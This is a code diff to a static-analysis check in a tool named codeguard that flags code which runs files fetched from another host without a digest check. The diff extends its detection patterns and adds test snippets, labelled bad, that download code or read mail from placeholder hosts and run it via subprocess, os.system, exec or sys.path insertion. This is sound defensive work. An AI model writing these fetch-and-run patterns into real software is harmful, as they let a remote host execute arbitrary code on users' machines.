@@ -10,8 +10,6 @@ from __future__ import annotations
 import re
 from collections.abc import Iterator
 
-import libcst as cst
-
 from codeguard.checks._api import Bad, Check, Good, Hit, Miss
 from codeguard.checks.malicious._calls import calls
 from codeguard.checks.malicious._reach import reach
@@ -22,9 +20,13 @@ from codeguard.model import Confidence, Severity
 from codeguard.syntax.unit import Unit
 
 DIGEST = re.compile(
-    r"\bsha(?:1|224|256|384|512)\b|blake2|hexdigest|compare_digest|verify|gpg|minisign|cosign", re.IGNORECASE
+    r"\bsha(?:1|224|256|384|512)\b|blake2|hexdigest|compare_digest|\bverif\w*\s*\(|\.verify\(|\bgpg|minisign|cosign",
+    re.IGNORECASE,
 )
-WRITERS = ("write", "write_bytes", "write_text", "writelines")
+OPENS = re.compile(
+    r"^\s*(?:(?:sudo|nohup|start|exec|env|cmd\s+/c|(?:ba|z)?sh\s+-c)\s+)*[\"'(]*(?:\{\}|chmod\b)", re.IGNORECASE
+)
+OTHER_FETCHES = ("asyncio.open_connection", "dns.", "imaplib.", "poplib.", "ftplib.", "telnetlib.")
 HARMLESS_PROGRAM = re.compile(
     r"(?:^|[/\\])(?:tar|unzip|dpkg|rpm|echo|grep|git|ffmpeg|cat|gunzip|7z|file|cp|mv|open|xdg-open|less|jq)$"
 )
@@ -46,9 +48,8 @@ def find(unit: Unit) -> Iterator[Hit]:
             )
     known = unit.fact(calls)
     if not (
-        "asyncio.open_connection" in known.by_name
-        or any(name in channels.HTTP_CALLS for name in known.by_name)
-        or any(m in known.by_method for m in channels.SOCKET_READERS)
+        any(name in channels.HTTP_CALLS or name.startswith(OTHER_FETCHES) for name in known.by_name)
+        or any(m in known.by_method for m in (*channels.SOCKET_READERS, "makefile"))
     ):
         return
     flow = unit.fact(reach)
@@ -84,37 +85,39 @@ def _fetched_programs(unit: Unit, early: dict[str, str]) -> Iterator[Hit]:
     """Runs of a file that this file has written with what it fetched."""
     known, flow = unit.fact(calls), unit.fact(reach)
     places: set[tuple[object, ...]] = set()
-    for call in known.by_name.get("urllib.request.urlretrieve", []) + known.by_name.get("wget.download", []):
-        target = unit.arg(call, 1, "filename") or unit.arg(call, 1, "out")
-        if target is not None:
-            places |= flow.roots(target)
-    for method in WRITERS:
-        for call in known.by_method.get(method, ()):
-            if call.args and "remote" in flow.kinds(call.args[0].value) and isinstance(call.func, cst.Attribute):
-                places |= _opened(call.func.value, unit)
     for command in unit.fact(commands):
         if "-O" in command.argv or "-o" in command.argv:
             places |= {("text", word) for word in command.argv if len(word) > 3 and not word.startswith(("-", "http"))}
-    if not places:
-        return
     for command in unit.fact(commands):
         words = list(command.words)
-        if not words or HARMLESS_PROGRAM.search(command.argv[0]) or "-O" in command.argv or "-o" in command.argv:
+        if not words or HARMLESS_PROGRAM.search(command.argv[0]) or _download_tool(command):
             continue
-        program = (
-            words[:1]
-            if not running.INTERPRETERS.search(command.argv[0]) and command.argv[0] != "python" and not command.shell
-            else words
+        interpreter = running.INTERPRETERS.search(command.argv[0].split(" ", 1)[0]) or command.argv[0].startswith(
+            "python"
         )
-        shared = {key for word in program for key in flow.roots(word)} & places
-        if shared and not _download_tool(command):
+        if (
+            command.shell
+            and not interpreter
+            and not OPENS.search(command.text)
+            and not _constant_program(command, unit)
+        ):
+            continue
+        program = words if interpreter or command.shell else words[:1]
+        if any("fetched" in flow.kinds(word) or flow.roots(word) & places for word in program):
             yield Hit(
                 command.call,
                 f"This runs a file that was fetched from another host{early.get(when(command.call, unit), '')} and not compared with a known digest",
             )
             return
+    for name, call in known.of({"sys.path.insert", "sys.path.append"}):
+        if call.args and name and "fetched" in flow.kinds(call.args[-1].value):
+            yield Hit(
+                call,
+                f"This imports from a file that was fetched from another host{early.get(when(call, unit), '')} and not compared with a known digest",
+            )
+            return
     for name, call in known.of({"builtins.exec", "builtins.__import__", "importlib.import_module"}):
-        if name == "builtins.exec" and call.args and flow.roots(call.args[0].value) & places:
+        if name == "builtins.exec" and call.args and "fetched" in flow.kinds(call.args[0].value):
             yield Hit(
                 call,
                 f"This runs a file that was fetched from another host{early.get(when(call, unit), '')} as Python code",
@@ -123,22 +126,21 @@ def _fetched_programs(unit: Unit, early: dict[str, str]) -> Iterator[Hit]:
 
 
 def _download_tool(command: Command) -> bool:
-    return bool(re.search(r"(?:^|[/\\])(?:curl|wget)$", command.argv[0]))
+    return (
+        "-O" in command.argv or "-o" in command.argv or bool(re.search(r"(?:^|[/\\])(?:curl|wget)$", command.argv[0]))
+    )
 
 
-def _opened(node: cst.BaseExpression, unit: Unit) -> set[tuple[object, ...]]:
-    """The names and texts that the path behind a file object is made of."""
+def _constant_program(command: Command, unit: Unit) -> bool:
+    """Whether the program that a shell starts first is itself the file that was fetched."""
+    first = command.text.split(None, 1)[0] if command.text else ""
     flow = unit.fact(reach)
-    found = flow.roots(node)
-    if isinstance(node, cst.Name):
-        for binding in unit.scopes.look_up(node.value, node):
-            if binding.kind in {"with", "assign"} and isinstance(binding.value, cst.Call):
-                found |= flow.roots(binding.value)
-    return {key for key in found if not (key[0] == "text" and key[1] in {"wb", "w", "utf-8", "wb+"})}
+    return any(("text", first) in flow.roots(word) for word in command.words)
 
 
 CHECK = Check(
     id="CGM005",
+    behaviour="run what another host sends",
     name="remote-code-execution",
     severity=Severity.CRITICAL,
     confidence=Confidence.HIGH,
@@ -146,6 +148,15 @@ CHECK = Check(
     find=find,
     fix="Ship the code with the package, or compare the digest of what is downloaded with a pinned one before it runs.",
     bad=(
+        Bad(
+            "import os, tempfile, subprocess\nimport httpx\n\nclass Helper:\n    def __init__(self, url='https://d.example.invalid/a'):\n        self.url = url\n\n    def fetch(self):\n        fd, path = tempfile.mkstemp()\n        with os.fdopen(fd, 'wb') as out:\n            out.write(httpx.get(self.url, verify=False).content)\n        return path\n\n    def start(self):\n        subprocess.Popen([self.fetch()])  # finding\n"
+        ),
+        Bad(
+            "import sys, urllib.request\nurllib.request.urlretrieve('https://d.example.invalid/m.zip', '/tmp/m.zip')\nsys.path.insert(0, '/tmp/m.zip')  # finding\n"
+        ),
+        Bad(
+            "import imaplib, os\nbox = imaplib.IMAP4_SSL('mx.example.invalid')\nos.system(box.fetch('1', '(BODY[TEXT])')[1][0][1].decode())  # finding\n"
+        ),
         Bad(
             "import urllib.request\nexec(urllib.request.urlopen('https://p.example.invalid/raw/1').read())  # finding\n"
         ),
@@ -167,6 +178,9 @@ CHECK = Check(
         ),
     ),
     good=(
+        Good(
+            "import os, requests\nwith open('/tmp/x.tar.gz', 'wb') as f:\n    f.write(requests.get('https://d.example.invalid/x.tar.gz', timeout=9).content)\nos.system('tar xzf /tmp/x.tar.gz')\n"
+        ),
         Good(
             "import hashlib, requests, subprocess\nSHA = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08'\n\ndef install(url, dest):\n    data = requests.get(url, timeout=60).content\n    if hashlib.sha256(data).hexdigest() != SHA:\n        raise ValueError('checksum mismatch')\n    open(dest, 'wb').write(data)\n    subprocess.run([dest], check=True)\n"
         ),
